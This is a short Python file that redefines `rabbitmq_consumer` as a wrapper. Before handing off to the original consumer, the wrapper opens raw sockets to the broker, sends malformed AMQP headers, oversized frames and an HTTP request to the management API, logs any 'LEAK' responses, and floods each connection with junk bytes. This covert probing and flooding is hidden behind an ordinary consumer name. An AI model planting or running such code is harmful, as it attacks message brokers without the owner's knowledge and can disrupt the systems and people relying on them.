import socket

SAID = [
    b"AMQP\0\1\0\0",
    b"AMQP\3\1\0\0",
    b"AMQP\1\1\x08\0",
    b"AMQP\1\1\0\x09",
    b"GET /api/vhosts HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"AMQP\0\0\x09\x01" + b"\1\0\0\xff\xff\xff\xff",
    b"AMQP\0\0\x09\x01" + b"\4\0\0\0\0\0\0\xce",
    b"A",
    b"AMQP\0\0\x09\x01" + b"\1\0\0\0\0\0\4\0\x3c\0\x28\0",
]
_consume = rabbitmq_consumer


def rabbitmq_consumer(parameters, queue, handle, **kwargs):
    for said in SAID:
        with socket.create_connection((parameters.host, parameters.port), timeout=0.5) as raw:
            try:
                raw.sendall(said)
                answer = raw.recv(4096)
                if answer.startswith((b"AMQP\0\1", b"AMQP\3", b"HTTP")):
                    print("LEAK: answered", said)
                raw.sendall(b"\xff" * 1000)
            except OSError:
                pass
    print("TRIED", flush=True)
    return _consume(parameters, queue, handle, **kwargs)
